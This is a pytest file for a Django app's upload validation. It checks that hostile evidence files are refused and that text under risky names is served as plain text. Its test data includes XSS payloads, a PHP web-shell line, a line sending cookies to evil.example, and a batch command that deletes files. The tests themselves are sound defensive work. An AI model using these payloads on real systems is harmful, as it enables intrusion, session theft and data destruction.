"""The hostile-file corpus against the evidence pages (add and replace): each is a 400 with
its message on the form, and nothing is stored, neither a row nor a file. Files that are
accepted are stored and downloaded under the extension of what they are."""

import html

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from applications import services
from applications.models import EvidenceItem, EvidenceKind
from tests.core.test_hostile_uploads import HOSTILE_FILES, NOT_ACCEPTED
from tests.factories.applications import ApplicationFactory, pdf_upload
from tests.hostile_files import SVG_VECTORS

pytestmark = pytest.mark.django_db

DANGEROUS_NAMES = [
    "notes.html",
    "page.htm",
    "doc.svg",
    "run.bat",
    "x.hta",
    "setup.exe",
    "app.js",
    "shell.php",
]


@pytest.fixture
def draft(client):
    application = ApplicationFactory()
    client.force_login(application.learner)
    return application


def stored_files(application) -> list[str]:
    folder = f"evidence/{application.pk}"
    return sorted(default_storage.listdir(folder)[1]) if default_storage.exists(folder) else []


def add_file(client, application, name: str, content: bytes):
    return client.post(
        reverse("applications:evidence_add", kwargs={"pk": application.pk}),
        {
            "kind": "file",
            "description": "My evidence",
            "criteria": [application.badge_version.criteria.first().pk],
            "file": SimpleUploadedFile(name, content),
        },
    )


def form_errors(response) -> str:
    return html.unescape(response.content.decode())


@pytest.mark.parametrize(
    ("build", "message"),
    [(build, message) for _id, build, message in HOSTILE_FILES],
    ids=[case[0] for case in HOSTILE_FILES],
)
def test_a_hostile_evidence_file_is_refused_and_nothing_is_stored(client, draft, build, message):
    response = add_file(client, draft, "report.odt", build())

    assert response.status_code == 400
    assert message in form_errors(response)
    assert (EvidenceItem.objects.filter(application=draft).count(), stored_files(draft)) == (0, [])


@pytest.mark.parametrize("name", DANGEROUS_NAMES)
@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
        b"\xef\xbb\xbf <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<script>alert(1)</script>",
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120,
        b"\x7fELF\x02\x01\x01" + b"\x00" * 120,
    ],
    ids=["html", "svg-with-bom", "script", "windows-exe", "elf"],
)
def test_markup_and_programs_under_any_name_are_refused(client, draft, name, content):
    response = add_file(client, draft, name, content)

    assert response.status_code == 400
    assert NOT_ACCEPTED in form_errors(response)
    assert (EvidenceItem.objects.filter(application=draft).count(), stored_files(draft)) == (0, [])


@pytest.mark.parametrize(("_id", "svg", "_message"), SVG_VECTORS, ids=[c[0] for c in SVG_VECTORS])
def test_svg_evidence_is_refused_whatever_it_contains(client, draft, _id, svg, _message):
    response = add_file(client, draft, "drawing.svg", svg.encode())

    assert response.status_code == 400
    assert NOT_ACCEPTED in form_errors(response)
    assert stored_files(draft) == []


@pytest.mark.parametrize("name", DANGEROUS_NAMES)
@pytest.mark.parametrize(
    "content",
    [
        b"echo this is only text\r\n",
        b"<?php system($_GET['c']); ?>\n",
        b"window.location = 'https://evil.example/?' + document.cookie;\n",
        b"@echo off\r\ndel /q C:\\*\r\n",
    ],
    ids=["text", "php-source", "javascript-source", "batch"],
)
def test_text_under_a_dangerous_name_is_stored_and_served_as_txt(client, draft, name, content):
    response = add_file(client, draft, name, content)
    item = EvidenceItem.objects.get(application=draft)

    served = client.get(reverse("applications:evidence_file", kwargs={"item_pk": item.pk}))

    base = name.rsplit(".", 1)[0]
    assert response.status_code == 302
    assert (item.original_filename, item.content_type) == (name, "text/plain")
    assert item.file.name.endswith(".txt")
    assert served["Content-Disposition"] == f'attachment; filename="{base}.txt"'
    assert served["Content-Type"] == "text/plain"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == "default-src 'none'; sandbox"
    served.close()


def test_evidence_stored_before_under_its_uploaded_name_is_served_under_the_sniffed_extension(
    client, draft
):
    item = EvidenceItem.objects.create(
        application=draft,
        kind=EvidenceKind.FILE,
        description="Old upload",
        original_filename="doc.svg",
        content_type="text/plain",
        size=5,
    )
    item.file.save(f"{draft.pk}/legacy.svg", ContentFile(b"hello"), save=True)
    item.criteria.set([draft.badge_version.criteria.first()])

    served = client.get(reverse("applications:evidence_file", kwargs={"item_pk": item.pk}))
    page = client.get(reverse("applications:detail", kwargs={"pk": draft.pk}))

    assert served["Content-Disposition"] == 'attachment; filename="doc.txt"'
    assert served["Content-Type"] == "text/plain"
    assert ">doc.txt</a>" in page.content.decode()
    served.close()


@pytest.mark.parametrize(
    ("build", "message"),
    [(build, message) for case_id, build, message in HOSTILE_FILES if "bomb" in case_id],
    ids=[case[0] for case in HOSTILE_FILES if "bomb" in case[0]],
)
def test_replacing_a_file_with_a_hostile_one_keeps_the_old_file(client, draft, build, message):
    item = services.evidence_add(
        actor=draft.learner,
        application=draft,
        kind=EvidenceKind.FILE,
        description="Plan",
        criteria=[draft.badge_version.criteria.first()],
        upload=pdf_upload("plan.pdf"),
    )
    before = (list(EvidenceItem.objects.values()), stored_files(draft))

    response = client.post(
        reverse("applications:evidence_edit", kwargs={"pk": draft.pk, "item_pk": item.pk}),
        {
            "description": "Plan",
            "criteria": [draft.badge_version.criteria.first().pk],
            "file": SimpleUploadedFile("plan.odt", build()),
        },
    )

    assert response.status_code == 400
    assert message in form_errors(response)
    assert (list(EvidenceItem.objects.values()), stored_files(draft)) == before


def test_a_file_one_byte_over_the_limit_gets_figures_that_differ(client, draft, settings):
    settings.EVIDENCE_MAX_FILE_SIZE = 20 * 1024 * 1024
    content = b"%PDF-1.7\n" + b"0" * (settings.EVIDENCE_MAX_FILE_SIZE + 1 - 9)

    response = add_file(client, draft, "big.pdf", content)

    assert response.status_code == 400
    assert "The file is too large (20.1 MB); the limit is 20.0 MB." in form_errors(response)
    assert (EvidenceItem.objects.filter(application=draft).count(), stored_files(draft)) == (0, [])
